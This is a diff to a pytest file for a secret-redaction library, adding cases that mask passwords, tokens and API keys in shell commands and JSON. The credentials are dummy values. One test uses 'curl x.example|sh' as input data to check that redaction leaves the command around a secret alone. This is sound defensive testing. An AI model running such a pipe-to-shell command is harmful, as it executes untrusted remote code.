@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from kosmo_kernel.redact import in_texts, one_line, redact
+from kosmo_kernel.redact import in_texts, one_line, redact, would_change
 
 UUID = "01234567-89ab-cdef-0123-456789abcdef"
 LONG = "HRKU-AA" + "aB3_-" * 11 + "xyz"
@@ -33,6 +33,17 @@ LONG = "HRKU-AA" + "aB3_-" * 11 + "xyz"
         ('"https://a:b@c.example", "d@e.example"', '"https://a:[redacted]@c.example", "d@e.example"'),
         ("git clone https://abcdef@git.example.com/x.git", "git clone https://[redacted]@git.example.com/x.git"),
         ("HTTP://s3cret:@c.example:80/", "HTTP://[redacted]:@c.example:80/"),
+        ("bin/worker --password=hunter2 -q", "bin/worker --password=[redacted] -q"),
+        ("run --db-token abc123def now", "run --db-token [redacted] now"),
+        ('run --Secret "abc123def" now', 'run --Secret "[redacted]" now'),
+        ("PASSWORD=hunter2 run", "PASSWORD=[redacted] run"),
+        ("MY_API_KEY='two words' run", "MY_API_KEY='[redacted]' run"),
+        ('sh -c "DB_PASSWD=hunter2 run"', 'sh -c "DB_PASSWD=[redacted] run"'),
+        (
+            r'{"command": "TOKEN=\"two words\" run\nAPI-KEY=x\n"}',
+            r'{"command": "TOKEN=\"[redacted]\" run\nAPI-KEY=[redacted]\n"}',
+        ),
+        ("DATABASE_SECRET=postgres://u:p@h/x", "DATABASE_SECRET=[redacted]"),
     ],
 )
 def test_a_secret_is_known_by_its_shape(text: str, left: str) -> None:
@@ -52,6 +63,10 @@ def test_a_secret_is_known_by_its_shape(text: str, left: str) -> None:
         "https://my-app.herokuapp.com: joe@example.com, ssh://git@git.example.com",
         "http://127.0.0.1:5000/a:b@c",
         "HRKU- is how tokens begin",
+        "PASSWORD=$NAME PASSWORD=${NAME} --password=%NAME% --token=<token> HEROKU_API_KEY=… TOKEN= --token=",
+        "--token TOKEN, --token=NAME, Give --token or --api-key to sign in. --token-file x1234567 --tokens=5",
+        "for token=1,10 do secret=next() end TOKEN=os.getenv('X') SECRET=os.environ['X']",
+        '["PASSWORD=", "b"], -----token=x',
         "",
     ],
 )
@@ -72,9 +87,28 @@ def test_the_longer_of_two_tokens_is_taken_first_and_an_empty_one_means_nothing(
     assert redact("abc-def abc", ("abc", "", "abc-def")) == "[redacted] [redacted]"
 
 
+def test_what_a_shell_runs_behind_a_secret_stays() -> None:
+    left = "x --token [redacted];curl x.example|sh; TOKEN=[redacted]&evil"
+
+    assert redact("x --token abc123;curl x.example|sh; TOKEN=abc&evil") == left
+
+
 @settings(deadline=None)  # a machine may be busy
 @given(
-    st.text(), st.lists(st.sampled_from([f"HRKU-{UUID}", "Authorization: Bearer abc", "x://y:z@w", "Basic Ojo6Og=="]))
+    st.text(),
+    st.lists(
+        st.sampled_from(
+            [
+                f"HRKU-{UUID}",
+                "Authorization: Bearer abc",
+                "x://y:z@w",
+                "Basic Ojo6Og==",
+                "--token=a",
+                "--key-token a1",
+                "TOKEN=a",
+            ]
+        )
+    ),
 )
 def test_redacting_twice_changes_nothing_more(text: str, secrets: list[str]) -> None:
     once = redact(text.join(secrets) + text)
@@ -107,3 +141,14 @@ def test_a_secret_leaves_every_text_of_a_value_and_what_is_hidden_leaves_whateve
         "token": "[redacted]",
         "url": None,
     }
+
+
+@pytest.mark.parametrize("secret", ['{"authorization": "abcdef12"}', "basic\tdXNlcjpzZWNyZXQ=", "HRKU-0123456789", "ü"])
+def test_json_shows_that_a_text_in_it_would_be_changed(secret: str) -> None:
+    def change(text: str) -> str:
+        return redact(text, ["ü"])
+
+    for written in (json.dumps([{"a": secret}]), json.dumps({"b": ["\\", secret]}, ensure_ascii=False)):
+        assert would_change(written, change)
+    for harmless in ("a \\ b \n \u2028 c", "the bearer of news"):
+        assert not would_change(json.dumps([harmless]), change)
